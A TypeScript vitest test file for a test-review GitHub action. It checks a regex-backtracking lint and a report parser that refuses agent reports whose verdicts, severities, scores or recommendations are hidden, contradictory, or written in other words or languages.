// text's end from each; and a run followed by any element that can fail (not only `$`) is retried from each
// of its places: `(\\*)[[\]]` on a run of backslashes with no bracket.
describe('#658 the source lint refuses a run after `^` under `m` that can take a line end, and a run before any element that can fail', () => {
  const refused: [string, string][] = [
    ['^\\s*x', 'm'],
    ['^\\s*L?\\d+\\s*[:|]', 'm'],
    ['^\\s*(```|~~~)', 'm'],
    ['^\\s*(…|\\.{3})\\s*$|…', 'm'],
    ['(\\\\*)([[\\]])', 'g'],
    ['(\\\\*)\\[', ''],
    ['\\d+\\.', ''],
    ['[^]*x', ''],
    ['\\s+(?=x)', ''],
    ['a(\\s+)\\s*b', ''],
    ['(?:\\w+)@', ''],
  ];
  const passed: [string, string][] = [
    ['^[ \\t]*x', 'm'],
    ['^L?\\d+\\s*[:|]', ''],
    ['(?<!\\\\)(\\\\*)([[\\]])', 'g'],
    ['foo\\s+bar', ''],
    ['\\s+', 'g'],
    ['\\d+(?:\\.\\d+)?', ''],
    ['^[+-]', 'm'],
    ['[\\n\\r\\u2028\\u2029]', ''],
  ];
  lintCases('#658', refused, passed);
});

// Hazard 658, the rule's three exact reasons a run starts in one place per stretch: a sticky pattern is
// tried at `lastIndex` alone; a group pins a run when each of its alternatives does (`(?:^|\/)[^/]+`);
// `\b` right before a run of word characters starts it only where a word starts. Each shape is refused
// where the reason does not hold.
describe('#658 the source lint knows sticky patterns, groups whose every alternative pins a run, and `\\b` before a word run', () => {
  const refused: [string, string][] = [
    ['[ \\t]*[:=]', 'g'],
    ['\\s*\\s*x', 'y'],
    ['(?:^|a)[^/]+\\.x$', ''],
    ['(?:^|\\s)\\s*x', ''],
    ['(?:a|)\\s*x', ''],
    ['(?:^|\\n)\\s*\\.', 'm'],
    ['\\b\\s+x', ''],
    ['\\B\\w+x', ''],
    ['\\ba\\w+x', ''],
    ['\\b\\w*\\w+x', ''],
    ['\\b[\\w-]+x', ''],
  ];
  const passed: [string, string][] = [
    ['[ \\t\\f]*[:=][ \\t\\f]*["\']?([-\\w.]{1,64})', 'y'],
    ["'(?:[^']|'')*'", 'y'],
    ['(?:^|\\/)[^/]+\\.(?:cs|fs|vb)proj$', ''],
    ['(?:^|(?:^|\\/)\\.[^/]*\\/)(?:mcp|mcp_config)\\.json$', 'i'],
    ['\\\\|(?:^|\\n)[ \\t]*\\.', ''],
    ["^('(?:[^']|'')*'|\"[^\"\\\\]*\")\\s*:(?= |$)", ''],
    ['\\b(?:\\w+_test|test_suite)\\s*\\(', ''],
    ['\\b\\w+x', 'i'],
    // The patterns #658 rewrote in src/.
    ['(?<!\\d)\\d+\\.\\d+[\\w.+-]{0,40}', ''],
    ['^(?:at\\s.(?:[^(]*\\(.+:\\d+:\\d+\\)|.*:\\d+:\\d+)|Node\\.js v\\d[\\w.]*|[{}[\\]]+)$', ''],
    ['(?<![^)\\s])[^)\\s]+\\)', 'g'],
    ['^\\|\\s*\\**Total\\s+Bonus\\**\\s*\\|\\s*(?:\\*+\\s*)?(?:\\+\\s*)?(\\d+)\\s*(?:\\*+\\s*)?\\|?$', 'i'],
    ['(?:^|\\/)(?=[^/]*(?:requirements|constraints))[^/]*\\.(?:txt|in)$', ''],
    ['<(\\/?)(?=([A-Za-z_][\\w.:-]*))\\2[^<>]*?(\\/?)>', 'g'],
  ];
  lintCases('#658', refused, passed);
});

/** The test-review action run over `report` (the change commits a `test.only`), with the local GitHub server. */
async function actionOver(report: string) {
  const dir = repoWith({
    'tests/a.spec.ts': "import { test, expect } from 'vitest';\n\ntest.only('adds', () => {\n  expect(1 + 2).toBe(3);\n});\n",
  });
  const file = join(dir, '..', `${dir.split('/').pop()}-action.md`);
  writeFileSync(file, report);
  const head = git(dir, 'rev-parse', 'HEAD').trim();
  const event = { pull_request: { number: 29, base: { sha: git(dir, 'rev-parse', 'HEAD~1').trim() }, head: { sha: head } } };
  const r = await runActionAsync(
    'test-review.js',
    dir,
    {
      agent: 'custom',
      'agent-cmd': REPORT_AGENT_CMD,
      'agent-arg': [REPORT_AGENT, '--report', file].join('\n'),
      'github-token': 'tok',
      'upload-artifact': 'false',
      isolate: 'false',
      retries: '0',
      json: 'verdict.json',
    },
    { event, env: { GITHUB_API_URL: github().url, RUNNER_TEMP: mkdtempSync(join(tmpdir(), 'pg-689-')) } },
  );
  return { ...r, dir };
}
/** Refused through the action: exit 3, broken, its check a failure, never a pass. */
async function brokenThroughAction(report: string, reason: RegExp) {
  const r = await actionOver(report);
  expect(r.outputs, r.stdout + r.stderr).toMatchObject({ verdict: 'broken', 'exit-code': '3' });
  expect(r.commands.filter((l) => l.startsWith('::error')).join('\n')).toMatch(reason);
  expect(github().checkRuns.map((k) => k.conclusion)).toEqual(['failure']);
}
const inDecision = (text: string) =>
  clean.replace('## Decision\n\n**Recommendation**: Approve', `## Decision\n\n**Recommendation**: Approve\n\n${text}`);

describe('#689 a second Recommendation line is read as a verdict is: the report’s exactly, or advice', () => {
  test('#689 a second **Recommendation**: Request changes. in the Decision, through the action: broken (exit 3), never Approve', async () => {
    await brokenThroughAction(inDecision('**Recommendation**: Request changes.'), /gives the verdict "Request changes\."/);
  });
  test.each([
    'request-changes',
    'REQUEST_CHANGES',
    'RequestChanges',
    'Changes Requested',
    'Request changes.',
    'Blocked',
    'Block!',
    'Reject',
    'Rejected',
    'Needs changes',
    'Request Changes (fix the focused test)',
    'Approve → Block',
    'Approve Block',
    'Request\u00a0Changes',
    'Request\u200bChanges',
    'Approve\u2028Block',
    '❌ Request Changes',
    'Do not merge',
  ])('#689 a second **Recommendation** line %j (Decision) is refused (exit 3), was Approve 100', (value) => {
    refusedUnderSummary(`**Recommendation**: ${value}`, inDecision(`**Recommendation**: ${value}`));
  });
  test.each([
    ['**Recommendation:** Request changes.', 'Decision'],
    ['Recommendation: Request changes.', 'Decision'],
    ['- **Recommendation**: Block the merge', 'Executive Summary'],
    ['> **Recommendation**: Request changes.', 'Reviewed Files'],
    ['**Recommendation**: request-changes', 'Appendix'],
  ])('#689 %j (in %s) is refused (exit 3)', (line, where) => {
    const report =
      where === 'Decision'
        ? inDecision(line)
        : where === 'Executive Summary'
          ? clean.replace('**Total Violations**', `${line}\n\n**Total Violations**`)
          : where === 'Reviewed Files'
            ? clean.replace('## Reviewed Files', `${line}\n\n## Reviewed Files`)
            : `${clean}\n## Appendix\n\n${line}\n`;
    refusedUnderSummary(line, report);
  });
  test('#689 a second Recommendation line with a look-alike letter (Requеst Changes, Cyrillic е) is refused through the CLI (exit 3)', async () => {
    await expectRefused(repoWith({ 'tests/a.spec.ts': SPEC }), inDecision('**Recommendation**: Requеst Changes'), /gives the verdict/);
  });
  test('#689 a Recommendation line of advice passes and the published report keeps it verbatim (the verdict lines alone rewritten)', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    const report = inDecision('**Recommendation**: Share the cart fixture across the suite');
    const r = await review(dir, report);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const published = readFileSync(join(dir, 'test-review.md'), 'utf8');
    expect(published).toContain('**Recommendation**: Share the cart fixture across the suite');
    expect(published.match(/^\*\*Recommendation\*\*: Approve$/gm)).toHaveLength(2);
  });
});

describe('#690 a severity in other words beside a reviewed-file place is a level the report must count', () => {
  test('#690 "- **Must fix**: … at `tests/a.spec.ts:3`" through the action: broken (exit 3), never Approve', async () => {
    await brokenThroughAction(
      clean.replace('## Decision', '- **Must fix**: `test.only` committed at `tests/a.spec.ts:3`\n\n## Decision'),
      /names a Critical violation at a row or place/,
    );
  });
  test.each([
    ['- Blocker: `.only` left in `tests/a.spec.ts`', 'Critical'],
    ['- **Must fix**: `.only` left at `tests/a.spec.ts:3`', 'Critical'],
    ['- Severe: `.only` left at `tests/a.spec.ts:3`', 'Critical'],
    ['- Showstopper: `.only` left at `tests/a.spec.ts:3`', 'Critical'],
    ['- Priority zero: `.only` left at `tests/a.spec.ts:3`', 'Critical'],
    ['- SEV1: `.only` left at `tests/a.spec.ts:3`', 'High'],
    ['- Found a SEV2 at `tests/a.spec.ts:3`', 'Medium'],
    ['- [S1] `.only` left at `tests/a.spec.ts:3`', 'High'],
    ['- S3: naming at `tests/a.spec.ts:3`', 'Low'],
    ['- Priority one: `.only` left at `tests/a.spec.ts:3`', 'High'],
  ])('#690 %j (before the Decision) names a %s violation no block counts: refused (exit 3)', (text, level) => {
    expect(() => parseReport(clean.replace('## Decision', `${text}\n\n## Decision`), { registry: PACKAGED_REGISTRY })).toThrow(
      new RegExp(`names a ${level} violation at a row or place`),
    );
  });
  test('#690 a non-blocker beside a file is no level: passes', () => {
    const report = clean.replace('## Decision', '- Non-blocker: a shared fixture would shorten `tests/a.spec.ts`\n\n## Decision');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).recommendation).toBe('Approve');
  });
});

describe('#691 a registry row beside a reviewed file without its line is a finding at a place', () => {
  test('#691 "- `test.only` committed (C2) in `tests/a.spec.ts`" through the action: broken (exit 3), never Approve', async () => {
    await brokenThroughAction(
      clean.replace('## Decision', '- `test.only` committed (C2) in `tests/a.spec.ts`\n\n## Decision'),
      /names row C2, tests\/a\.spec\.ts/,
    );
  });
  test.each([
    '- C2: `.only` left in `tests/a.spec.ts`',
    '- C2 — `tests/a.spec.ts`: `.only` left',
    '- (C2) `.only` left in `tests/a.spec.ts`',
    '- Criterion C2 violated in `tests/a.spec.ts`',
    '- `tests/a.spec.ts` (C2)',
  ])('#691 %j outside the findings sections is refused (exit 3), was Approve 100', (text) => {
    refusedUnderSummary(text);
  });
  test('#691 a negated row beside a file reports none: passes', () => {
    const report = clean.replace('## Decision', 'No C2 markers in `tests/a.spec.ts`.\n\n## Decision');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).recommendation).toBe('Approve');
  });
});

describe('#692 a score in another shape than N/100 is refused, never left uncompared', () => {
  test('#692 "**Score**: 41%" through the action: broken (exit 3), never Approve 100', async () => {
    await brokenThroughAction(clean.replace('## Decision', '**Score**: 41%\n\n## Decision'), /a score written .{0,4}41%.{0,4}, not N\/100/);
  });
  test.each([
    '**Score**: 41%',
    'Score: 4/10',
    'Score: 0.41',
    'Score: 41 out of 100',
    'Score 41 pts',
    'Quality: forty-one',
    '**Overall rating**: 4 of 5',
    '| Score | 41% |\n| --- | --- |',
  ])('#692 %j in the summary is refused (exit 3), was Approve 100', (text) => {
    refusedUnderSummary(text);
  });
  test.each(['Score: 41%', 'Rating: 4/10'])('#692 %j in the Quality Score Breakdown is refused (exit 3)', (text) => {
    const report = clean.replace('## Decision', `${text}\n\n## Decision`);
    expect(report.lastIndexOf('## Quality Score Breakdown')).toBeLessThan(report.indexOf(text));
    expect(() => parseReport(report, { registry: PACKAGED_REGISTRY })).toThrow(/not N\/100/);
  });
  test('#692 the score restated as N/100, or in prose as the whole number, passes', () => {
    const report = clean.replace('## Decision', '**Score**: 100/100\n\nThe suite scores 100 on the rubric.\n\n## Decision');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).qualityScore).toBe(100);
  });
});

describe('#693 a verdict in the Decision in other words or another language is refused', () => {
  test('#693 "**Recommandation** : Bloquer" in the Decision through the action: broken (exit 3), never Approve', async () => {
    await brokenThroughAction(inDecision('**Recommandation** : Bloquer'), /Recommandation/);
  });
  test.each([
    '**Recommandation** : Bloquer',
    '**Recomendación**: Bloquear',
    '**推奨**: ブロック',
    '**Empfehlung**: Änderungen anfordern (blockieren)',
    '**建议**：请求更改（Request Changes）',
    '**Ergebnis**: Nicht genehmigt',
    'Not approved: the focused test must go.',
    '**Do not merge.**',
    'The reviewer recommends to **Block** this PR.',
    'Changes requested before this can land.',
  ])('#693 %j in the Decision is refused (exit 3), was Approve 100', (text) => {
    refusedUnderSummary(text, inDecision(text));
  });
  test.each(['**Recommandation** : Bloquer', '| Empfehlung | Blockieren |\n| --- | --- |'])(
    '#693 %j under the summary is refused (exit 3): a verdict label in another language holds a verdict',
    (text) => {
      refusedUnderSummary(text);
    },
  );
  test('#693 a rationale that agrees with the verdict passes', () => {
    const report = inDecision('**Rationale**: The tests are sound; approve, and fix the naming before merge.');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).recommendation).toBe('Approve');
  });
});
